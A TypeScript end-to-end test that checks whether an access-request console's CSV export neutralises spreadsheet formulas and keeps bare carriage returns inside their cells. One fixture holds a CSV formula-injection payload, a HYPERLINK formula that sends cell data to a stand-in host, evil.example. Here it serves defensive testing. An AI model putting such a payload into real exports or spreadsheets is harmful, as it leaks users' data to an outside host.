/**
 * The Requests page's CSV export is safe to open in a spreadsheet: a justification written as a
 * formula is shown as text, and one with a bare carriage return stays in its cell.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { expect, openConsoleAs, test } from './fixtures.js';
import { APPROVERS, REQUESTERS } from './support/accounts.js';
import { submitRequest } from './support/api.js';

test('exported requests: formulas neutralised, a bare CR kept inside its cell', async ({ context }) => {
  const formula = await submitRequest(REQUESTERS.grace.username, REQUESTERS.grace.resourceId, { justification: '=HYPERLINK("http://evil.example/?"&A1,"quarter close")' });
  const carriage = await submitRequest(REQUESTERS.grace.username, REQUESTERS.grace.resourceId, { justification: 'restore the payroll run\rthen check totals' });
  const { page, console, queue } = await openConsoleAs(context, APPROVERS.alice.username, APPROVERS.alice.displayName);
  // Both in the replica (Alice decides them) before the export reads it.
  await expect(queue.row(formula.id)).toBeVisible({ timeout: 15_000 });
  await expect(queue.row(carriage.id)).toBeVisible();
  await console.go('Requests');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /Export CSV/ }).click()]);
  const text = readFileSync((await download.path())!, 'utf8');
  const rows = Papa.parse<string[]>(text, { newline: '\r\n', skipEmptyLines: true }).data;
  const header = rows[0]!;
  const byId = new Map(rows.slice(1).map((r) => [r[header.indexOf('id')], r]));
  const justification = (id: string) => byId.get(id)?.[header.indexOf('justification')];
  expect(justification(formula.id)).toBe(`'${formula.justification}`);
  expect(justification(carriage.id)).toBe('restore the payroll run\rthen check totals');
  // Every row has the header's width: nothing split a row in two.
  expect(rows.every((r) => r.length === header.length)).toBe(true);
});
